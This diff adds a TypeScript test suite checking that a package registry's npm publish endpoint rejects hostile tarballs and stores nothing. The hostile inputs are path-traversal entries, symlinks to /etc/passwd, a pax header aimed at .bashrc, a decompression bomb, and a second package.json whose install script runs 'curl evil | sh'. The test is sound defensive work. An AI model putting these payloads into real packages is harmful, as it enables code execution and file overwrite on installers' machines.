@@ -1,0 +1,76 @@
+import { buildTar, startTestServer, storedBlobKeys, type TarInput, type TestServer, testModes, zeroTarGz } from '@stowage/testkit';
+import { npmFormat } from '../src';
+import { publishBody } from './npm-fixtures';
+
+// Tarballs npm unpacks into node_modules: every entry is checked at publish, and the tarball is
+// read through with a cap on the bytes it expands to. Default limits (500 MiB files, 512 MiB
+// unpacked), as a server runs with no configuration.
+
+describe.each(testModes())('npm publish of hostile tarballs (%s)', (mode) => {
+  let s: TestServer;
+  let projectId: number;
+  let token: string;
+
+  const publish = (name: string, tgz: Buffer) =>
+    s.api.inject({
+      method: 'PUT',
+      url: `/api/v4/projects/${projectId}/packages/npm/${name}`,
+      payload: JSON.stringify(publishBody(name, '1.0.0', { tgz })),
+      headers: { 'content-type': 'application/json', 'npm-command': 'publish', authorization: `Bearer ${token}` },
+    });
+  const packages = () => s.api.root<unknown[]>('GET', `/api/v4/projects/${projectId}/packages`);
+  const refused = async (name: string, tgz: Buffer, error: string) => {
+    const blobsBefore = await storedBlobKeys(s);
+    const res = await publish(name, tgz);
+    expect([res.status, res.json()]).toEqual([400, { error }]);
+    expect(await packages()).toEqual([]);
+    expect(await storedBlobKeys(s)).toEqual(blobsBefore);
+  };
+  const manifest = (name: string): TarInput => ({ name: 'package/package.json', data: JSON.stringify({ name, version: '1.0.0' }) });
+
+  beforeAll(async () => {
+    s = await startTestServer({ formats: [npmFormat], mode });
+    const project = await s.api.createProject('lib');
+    projectId = project.id;
+    const dev = await s.api.createUser('dev');
+    await s.api.addMember({ project: project.id }, dev.id, 30);
+    token = dev.token;
+  }, 120_000);
+  afterAll(() => s?.close());
+
+  it.each<[string, TarInput, string]>([
+    ['a ".." path', { name: 'package/../../x', data: 'x' }, 'the archive entry "package/../../x" points outside the package directory (a ".." segment)'],
+    ['an absolute path', { name: '/etc/x', data: 'x' }, 'the archive entry "/etc/x" points outside the package directory (an absolute path)'],
+    ['a drive path', { name: 'C:/x', data: 'x' }, 'the archive entry "C:/x" points outside the package directory (a drive path)'],
+    ['a backslash drive path', { name: 'C:\\x', data: 'x' }, 'the archive entry "C:\\\\x" has a backslash in its name'],
+    ['a backslash path', { name: 'package\\..\\..\\x', data: 'x' }, 'the archive entry "package\\\\..\\\\..\\\\x" has a backslash in its name'],
+    ['a symlink', { name: 'package/link', type: '2', link: '/etc/passwd' }, 'the archive entry "package/link" is a symbolic link'],
+    ['a hard link', { name: 'package/link', type: '1', link: 'package/package.json' }, 'the archive entry "package/link" is a hard link'],
+    ['a FIFO', { name: 'package/fifo', type: '6' }, 'the archive entry "package/fifo" is a device, FIFO or other special file'],
+    ['a ".." path in a pax header', { name: 'package/ok.js', paxPath: 'package/../../.bashrc', data: 'x' }, 'the archive entry "package/../../.bashrc" points outside the package directory (a ".." segment)'],
+  ])('refuses a tarball with %s, naming the entry, and stores nothing', async (_, entry, problem) => {
+    await refused('evil-lib', buildTar([manifest('evil-lib'), { name: 'package/index.js', data: 'ok' }, entry]), `Invalid tarball: ${problem}.`);
+  });
+
+  it('refuses a second package.json npm would write over the first', async () => {
+    const second = { name: 'other/package.json', data: JSON.stringify({ name: 'evil-lib', version: '1.0.0', scripts: { install: 'curl evil | sh' } }) };
+    await refused('evil-lib', buildTar([manifest('evil-lib'), second]), 'Invalid tarball: the tarball holds more than one package.json (package/package.json, other/package.json).');
+    await refused('evil-lib', buildTar([manifest('evil-lib'), { ...manifest('evil-lib'), data: '{}' }]), 'Invalid tarball: the archive holds "package/package.json" more than once.');
+  });
+
+  it('stops, quickly, a tarball that expands to 4 GiB before its package.json', async () => {
+    const bomb = zeroTarGz('package/zeros.bin', 4096, [manifest('bomb-lib')]);
+    expect(bomb.length).toBeLessThan(5 << 20);
+    const before = process.cpuUsage();
+    await refused('bomb-lib', bomb, `Invalid tarball: the archive expands beyond ${512 * 1024 ** 2} bytes.`);
+    const used = process.cpuUsage(before);
+    const seconds = (used.user + used.system) / 1e6;
+    process.stdout.write(`npm 4 GiB tarball bomb refused after ${seconds.toFixed(2)} s of CPU\n`);
+    expect(seconds).toBeLessThan(2);
+  });
+
+  it('still publishes an ordinary tarball, directories and all', async () => {
+    const tgz = buildTar([{ name: 'package/', type: '5' }, manifest('good-lib'), { name: 'package/lib/', type: '5' }, { name: 'package/lib/index.js', data: 'ok' }]);
+    expect((await publish('good-lib', tgz)).status).toBe(200);
+  });
+});
